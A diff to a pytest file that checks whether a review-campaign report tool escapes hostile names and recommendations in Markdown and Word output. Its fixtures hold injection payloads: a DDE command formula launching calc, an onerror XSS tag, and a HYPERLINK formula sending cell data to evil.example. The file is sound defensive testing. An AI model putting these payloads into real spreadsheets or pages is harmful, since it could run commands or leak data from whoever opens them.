@@ -15,6 +15,7 @@ import re
 import zipfile
 from pathlib import Path
 
+import docx
 import openpyxl
 import pytest
 from hypothesis import given
@@ -39,6 +40,13 @@ EXPERT_NAMES = {"e2": "=1+1", "e35": "<img src=x onerror=alert(1)>"}
 REASON = "=cmd|' /C calc'!A0"
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NOW = "2021-12-06 12:00"  # after the first review's deadline: every format has reviews to show
+
+
+def expert_name(expert: str) -> str:
+    """The name the hostile roster gives an expert (the Tomsk file's own, unless EXPERT_NAMES replaces it)."""
+    if expert in EXPERT_NAMES:
+        return EXPERT_NAMES[expert]
+    return re.search(rf"\{{id: {expert}, name: ([^,]+),", TOMSK.read_text(encoding="utf-8"))[1]
 
 
 def hostile_campaign(folder: Path) -> Path:
@@ -185,7 +193,8 @@ def test_report_md_escapes_html_and_markdown_in_names_and_recommendations(campai
     md = campaign["dq"].ok("report", "--format", "md", "--now", NOW)
     assert_no_markup(md)
     assert f"### {ESCAPED_TAG} (ДОУ 35)" in md  # the heading reads as the name typed
-    assert f"- review1, {campaign['assigned']['35'][0]}: {ESCAPED_TAG}" in md  # the recommendation too
+    expert = expert_name(campaign["assigned"]["35"][0])
+    assert f"- {ESCAPED_TAG} (Первичная экспертиза, {guard.markdown_text(expert)})" in md  # the recommendation too, by stage and expert name
     assert "### =HYPERLINK(\"http://evil.example/steal?d=\"&amp;A1,\"x\") (ДОУ 2)" in md
     assert "&lt;img src=x onerror=alert(1)&gt;" in md  # an expert's name in the experts' table
 
@@ -217,6 +226,20 @@ def test_markdown_text_has_no_tag_no_line_break_and_no_unescaped_markup(text):
     assert not re.search(r"(?<!\\)(?:\\\\)*[`*_\[\]|~#]", said.replace("\\\\", "")), said
     lines = markdown_table(["a"], [[text]])
     assert len(lines) == 3 and "<" not in lines[2]
+
+
+def test_report_docx_keeps_the_hostile_text_as_typed(campaign):
+    """Word runs no formula and renders no markup: each name and recommendation reads back exactly as typed."""
+    path = campaign["tmp"] / "s.docx"
+    campaign["dq"].ok("report", "--format", "docx", "--out", str(path), "--now", NOW)
+    doc = docx.Document(str(path))
+    texts = [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for row in t.rows for c in row.cells]
+    for inst, text in STORED.items():
+        assert any(t.endswith(f". {text}") for t in texts), inst  # the ДОУ's heading, as typed
+        expert = expert_name(campaign["assigned"][inst][0])
+        assert f"{text} (Первичная экспертиза, {expert})" in texts, inst  # its recommendation, by stage and expert name
+    assert "=1+1" in texts and EXPERT_NAMES["e35"] in texts  # the experts' table
+    assert any(REASON in t for t in texts)  # the extension's reason
 
 
 # -- history: one set of rows for the terminal and the portal --------------------------------
